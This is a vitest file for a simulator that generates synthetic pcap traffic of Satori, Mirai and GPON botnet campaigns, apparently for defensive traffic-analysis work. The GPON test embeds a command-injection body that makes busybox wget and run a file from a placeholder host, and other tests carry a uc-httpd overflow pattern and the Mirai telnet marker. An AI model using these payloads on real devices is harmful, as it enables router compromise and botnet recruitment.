import { createHash } from "node:crypto";
import { mkdtempSync, readFileSync, rmSync, statSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { PortentError } from "../schema/errors.js";
import type { Truth, TruthCampaign } from "../schema/truth.js";
import { DLINK_REQUEST, GPON_REQUEST, UC_REQUEST_LINE } from "./payloads.js";
import { listScenarios, simulate } from "./scenarios.js";

/** One decoded record; a local reader so these tests do not depend on src/capture. */
interface Pkt {
  ts: number;
  v6: boolean;
  src: string;
  dst: string;
  src4: number;
  dst4: number;
  proto: number;
  sport: number;
  dport: number;
  seq: number;
  flags: number;
  optLen: number;
  payload: Uint8Array;
}

const u16 = (b: Uint8Array, o: number) => (b[o] << 8) | b[o + 1];
const u32 = (b: Uint8Array, o: number) =>
  ((b[o] << 24) | (b[o + 1] << 16) | (b[o + 2] << 8) | b[o + 3]) >>> 0;
const v4Text = (a: number) => `${a >>> 24}.${(a >>> 16) & 255}.${(a >>> 8) & 255}.${a & 255}`;
const hex = (b: Uint8Array) => Buffer.from(b).toString("hex");

/** Walks a little-endian microsecond Ethernet pcap. */
function walk(file: Uint8Array): Pkt[] {
  const dv = new DataView(file.buffer, file.byteOffset, file.byteLength);
  expect(dv.getUint32(0, true)).toBe(0xa1b2c3d4);
  expect(dv.getUint32(20, true)).toBe(1);
  const out: Pkt[] = [];
  let o = 24;
  while (o < file.length) {
    const ts = dv.getUint32(o, true) * 1e6 + dv.getUint32(o + 4, true);
    const len = dv.getUint32(o + 8, true);
    const f = file.subarray(o + 16, o + 16 + len);
    o += 16 + len;
    const v6 = u16(f, 12) === 0x86dd;
    const ip = 14;
    const l4 = v6 ? ip + 40 : ip + (f[ip] & 15) * 4;
    const proto = v6 ? f[ip + 6] : f[ip + 9];
    const p: Pkt = {
      ts,
      v6,
      src4: v6 ? 0 : u32(f, ip + 12),
      dst4: v6 ? 0 : u32(f, ip + 16),
      src: v6 ? hex(f.subarray(ip + 8, ip + 24)) : v4Text(u32(f, ip + 12)),
      dst: v6 ? hex(f.subarray(ip + 24, ip + 40)) : v4Text(u32(f, ip + 16)),
      proto,
      sport: 0,
      dport: 0,
      seq: 0,
      flags: 0,
      optLen: 0,
      payload: new Uint8Array(0),
    };
    if (proto === 6) {
      const hl = (f[l4 + 12] >> 4) * 4;
      Object.assign(p, {
        sport: u16(f, l4),
        dport: u16(f, l4 + 2),
        seq: u32(f, l4 + 4),
        flags: f[l4 + 13],
        optLen: hl - 20,
      });
      p.payload = f.subarray(l4 + hl);
    } else if (proto === 17) {
      Object.assign(p, { sport: u16(f, l4), dport: u16(f, l4 + 2) });
      p.payload = f.subarray(l4 + 8);
    }
    out.push(p);
  }
  return out;
}

const isSyn = (p: Pkt) => p.proto === 6 && (p.flags & 0x12) === 0x02;
const text = (b: Uint8Array) => Buffer.from(b).toString("latin1");

function inCidr(p: Pkt, cidr: string): boolean {
  if (p.v6) return false;
  const [ip, len] = cidr.split("/");
  const base = (ip as string).split(".").reduce((a, x) => a * 256 + Number(x), 0);
  const size = 2 ** (32 - Number(len));
  return p.src4 >= base && p.src4 < base + size;
}

/** Client payload bytes per connection (client = the SYN's sender), in capture order. */
function clientStreams(pkts: Pkt[]): Map<string, string[]> {
  const clients = new Set<string>();
  const out = new Map<string, string[]>();
  for (const p of pkts) {
    if (p.proto !== 6) continue;
    const key = `${p.src}|${p.sport}|${p.dst}|${p.dport}`;
    if (isSyn(p)) clients.add(key);
    if (p.payload.length > 0 && clients.has(key)) {
      const segs = out.get(key) ?? [];
      segs.push(text(p.payload));
      out.set(key, segs);
    }
  }
  return out;
}

/** Recounts each campaign's sources, SYNs and hourly sources from the packets. */
function checkCampaignCounts(truth: Truth, pkts: Pkt[]): void {
  const start = Date.parse(truth.start) * 1000;
  for (const c of truth.campaigns) {
    const all = new Set<string>();
    const hourly = new Map<number, Set<string>>();
    const syns = new Set<string>();
    for (const p of pkts) {
      if (!isSyn(p) || !c.ports.includes(p.dport) || !inCidr(p, c.sourceBlock)) continue;
      all.add(p.src);
      const key = `${p.src}|${p.sport}|${p.dst}|${p.dport}|${p.seq}`;
      if (syns.has(key)) continue; // a retransmitted SYN counts once, at its first copy
      syns.add(key);
      const h = Math.floor((p.ts - start) / 3.6e9);
      if (!hourly.has(h)) hourly.set(h, new Set());
      hourly.get(h)!.add(p.src);
    }
    expect(all.size, c.id).toBe(c.sources);
    expect(syns.size, c.id).toBe(c.syns);
    expect(
      c.hourlySources.map((_, h) => hourly.get(h)?.size ?? 0),
      c.id,
    ).toEqual(c.hourlySources);
  }
}

const dir = mkdtempSync(join(tmpdir(), "portent-sim-"));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

function run(name: string, seed: number, scale: number) {
  const out = join(dir, `${name}-${seed}-${scale}.pcap`);
  const t0 = performance.now();
  const r = simulate(name, { seed, scale, out });
  const secs = (performance.now() - t0) / 1000;
  const bytes = readFileSync(out);
  return { r, secs, bytes, out, hash: createHash("sha256").update(bytes).digest("hex") };
}

describe("registry", () => {
  it("lists the scenarios", () => {
    expect(listScenarios().map((s) => s.name)).toEqual([
      "satori-2018",
      "smoke",
      "surge-daily-cycle",
      "surge-hammer",
      "surge-fading",
      "surge-new-port",
      "surge-slow-growth",
    ]);
  });
  it("rejects unknown names with E_UNKNOWN_SCENARIO", () => {
    expect(() => simulate("nope", { seed: 1, out: join(dir, "x.pcap") })).toThrow(PortentError);
    try {
      simulate("nope", { seed: 1, out: join(dir, "x.pcap") });
    } catch (e) {
      expect((e as PortentError).code).toBe("E_UNKNOWN_SCENARIO");
    }
  });
});

describe("progress", () => {
  it("reports progress", () => {
    const seen: number[] = [];
    simulate("satori-2018", {
      seed: 1,
      scale: 0.02,
      out: join(dir, "p.pcap"),
      onProgress: (n) => seen.push(n),
    });
    expect(seen.length).toBeGreaterThan(200);
    for (let i = 1; i < seen.length; i++)
      expect(seen[i]).toBeGreaterThanOrEqual(seen[i - 1] as number);
  });
});

describe("determinism", () => {
  it("gives byte-identical files for the same seed and scale, different ones otherwise", () => {
    for (const [name, scale] of [
      ["smoke", 1],
      ["satori-2018", 0.05],
    ] as const) {
      const a = run(name, 7, scale);
      const b = run(name, 7, scale);
      const c = run(name, 8, scale);
      expect(b.hash).toBe(a.hash);
      expect(b.r.truth).toEqual(a.r.truth);
      expect(c.hash).not.toBe(a.hash);
    }
  });
});

describe("smoke", () => {
  const { r, bytes } = run("smoke", 1, 1);
  const pkts = walk(bytes);
  const streams = [...clientStreams(pkts).values()];

  it("is a few hundred packets in one hour, in time order", () => {
    expect(pkts.length).toBe(r.packets);
    expect(r.packets).toBeGreaterThan(200);
    expect(r.packets).toBeLessThan(600);
    for (let i = 1; i < pkts.length; i++)
      expect(pkts[i]!.ts).toBeGreaterThanOrEqual(pkts[i - 1]!.ts);
    expect(pkts[0]!.ts).toBeGreaterThanOrEqual(Date.parse(r.truth.start) * 1000);
    expect(pkts.at(-1)!.ts).toBeLessThan(Date.parse(r.truth.end) * 1000);
  });

  it("counts its campaigns as written", () => {
    checkCampaignCounts(r.truth, pkts);
  });

  it("has one of each shape", () => {
    expect(streams.filter((s) => s[0] === text(UC_REQUEST_LINE))).toHaveLength(1);
    const dl = streams.filter((s) => s[0]?.startsWith("GET /login.cgi"));
    expect(dl).toHaveLength(1);
    expect(dl[0]).toHaveLength(2);
    expect(dl[0]!.join("")).toBe(text(DLINK_REQUEST));
    expect(streams.filter((s) => s.includes("/bin/busybox ECCHI\r\n"))).toHaveLength(1);
    expect(pkts.filter((p) => p.proto === 17)).toHaveLength(1);
    expect(pkts.filter((p) => p.v6 && isSyn(p))).toHaveLength(1);
    expect(
      pkts.filter((p) => isSyn(p) && (p.dport === 23 || p.dport === 2323) && p.seq === p.dst4)
        .length,
    ).toBeGreaterThan(10);
  });
});

describe("satori-2018 at scale 1", () => {
  let truth: Truth;
  let pkts: Pkt[];
  let streams: string[][];
  const campaign = (id: string) => truth.campaigns.find((c) => c.id === id) as TruthCampaign;

  beforeAll(() => {
    const { r, secs, bytes, out } = run("satori-2018", 1, 1);
    truth = r.truth;
    console.log(
      `satori-2018 scale 1: ${r.packets} packets, ${r.bytes} bytes, ${secs.toFixed(2)} s, ${Math.round(r.packets / secs)} packets/s`,
    );
    expect(statSync(out).size).toBe(r.bytes);
    pkts = walk(bytes);
    expect(pkts.length).toBe(r.packets);
    expect(truth.packets).toBe(r.packets);
    streams = [...clientStreams(pkts).values()];
  });

  it("is about a million packets in timestamp order inside the observation", () => {
    expect(pkts.length).toBeGreaterThan(700_000);
    expect(pkts.length).toBeLessThan(1_400_000);
    const start = Date.parse(truth.start) * 1000;
    const end = Date.parse(truth.end) * 1000;
    let bad = 0;
    for (let i = 1; i < pkts.length; i++) if (pkts[i]!.ts < pkts[i - 1]!.ts) bad++;
    expect(bad).toBe(0);
    expect(pkts[0]!.ts).toBeGreaterThanOrEqual(start);
    expect(pkts.at(-1)!.ts).toBeLessThan(end);
  });

  it("counts each campaign's sources, hourly sources and SYNs as written", () => {
    checkCampaignCounts(truth, pkts);
  });

  it("has the uc-httpd surge of the story: tens per hour on June 9, 300-800 at the peak", () => {
    const uc = campaign("satori-uc-httpd");
    expect(uc.surge).toBe(true);
    const june9 = uc.hourlySources.slice(48 + 6, 72);
    const mean9 = june9.reduce((a, b) => a + b, 0) / june9.length;
    expect(mean9).toBeGreaterThan(10);
    expect(mean9).toBeLessThan(60);
    const peak = Math.max(...uc.hourlySources);
    expect(peak).toBeGreaterThanOrEqual(300);
    expect(peak).toBeLessThanOrEqual(800);
    const before = uc.hourlySources.slice(7 * 24 - 12, 7 * 24 + 3); // June 13 15:00 .. June 14 03:00
    expect(peak / Math.max(...before)).toBeGreaterThan(8);
  });

  it("carries the uc-httpd exploit exactly as in the PoC facts", () => {
    const uc = campaign("satori-uc-httpd");
    const sessions = streams.filter((s) => s[0] === text(UC_REQUEST_LINE));
    expect(sessions.length).toBe(uc.sessions);
    for (const s of sessions) {
      expect(s).toHaveLength(2);
      expect(s[1]).toMatch(/^command=login&username=A{85,}&password=PoC\r\n\r\n$/);
    }
    const reply = pkts.find(
      (p) => p.sport === 8000 && text(p.payload).includes("Server: uc-httpd 1.0.0\r\n"),
    );
    expect(reply).toBeDefined();
  });

  it("carries the DSL-2750B request byte for byte, some split in two segments", () => {
    const dl = campaign("satori-dlink");
    expect(dl.downloader).toBe("http://198.51.100.7/r");
    const sessions = streams.filter((s) => s.join("").startsWith("GET /login.cgi"));
    expect(sessions.length).toBe(dl.sessions);
    for (const s of sessions) expect(s.join("")).toBe(text(DLINK_REQUEST));
    const split = sessions.filter((s) => s.length === 2).length;
    expect(split / sessions.length).toBeGreaterThan(0.2);
    expect(split / sessions.length).toBeLessThan(0.4);
  });

  it("carries the GPON request with a correct Content-Length", () => {
    const g = campaign("gpon");
    const sessions = streams.filter((s) => s[0]?.startsWith("POST /GponForm/diag_Form?images/ "));
    expect(sessions.length).toBe(g.sessions);
    for (const s of sessions) expect(s.join("")).toBe(text(GPON_REQUEST));
    const [head, body] = text(GPON_REQUEST).split("\r\n\r\n") as [string, string];
    expect(head).toContain(`Content-Length: ${body.length}`);
    expect(body).toBe(
      "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://198.51.100.9/g+-O+/tmp/g;sh+/tmp/g`&ipv=0",
    );
  });

  it("gives Mirai-style SYNs seq == destination and no options; kernel SYNs have options", () => {
    const bots = ["198.19.0.0/17", "198.19.128.0/18", "198.19.192.0/19"];
    let mirai = 0;
    for (const p of pkts) {
      if (!isSyn(p) || !bots.some((b) => inCidr(p, b))) continue;
      if (p.optLen === 0) {
        expect(p.seq).toBe(p.dst4);
        mirai++;
      } else {
        expect(p.seq).not.toBe(p.dst4);
      }
    }
    expect(mirai).toBeGreaterThan(50_000);
    const telnet = campaign("mirai-telnet");
    const logins = streams.filter((s) => s[0]?.startsWith("\xff\xfc\x01\xff\xfb\x1f"));
    expect(logins.length).toBe(telnet.sessions);
    const telnetSyns = (port: number) =>
      pkts.filter((p) => isSyn(p) && p.dport === port && inCidr(p, telnet.sourceBlock)).length;
    const ratio = telnetSyns(23) / telnetSyns(2323);
    expect(ratio).toBeGreaterThan(7);
    expect(ratio).toBeLessThan(14);
  });

  it("counts the background's sources and ports as written", () => {
    const blocks = truth.campaigns.map((c) => c.sourceBlock);
    const sources = new Set<string>();
    const ports = new Set<number>();
    let v6 = 0;
    let udpEmpty = 0;
    let icmp = 0;
    for (const p of pkts) {
      const fromSensor = p.v6 ? p.src.startsWith("20010db8ffff") : p.src.startsWith("203.0.113.");
      if (fromSensor || blocks.some((b) => inCidr(p, b))) continue;
      sources.add(p.src);
      if (isSyn(p) || p.proto === 17) ports.add(p.dport);
      if (p.v6) v6++;
      if (p.proto === 17 && p.payload.length === 0) udpEmpty++;
      if (p.proto === 1) icmp++;
    }
    expect(sources.size).toBe(truth.background.sources);
    expect(ports.size).toBe(truth.background.ports);
    expect(v6).toBeGreaterThan(0);
    expect(v6 / pkts.length).toBeLessThan(0.05);
    expect(udpEmpty).toBeGreaterThan(0);
    expect(icmp).toBeGreaterThan(0);
  });
});
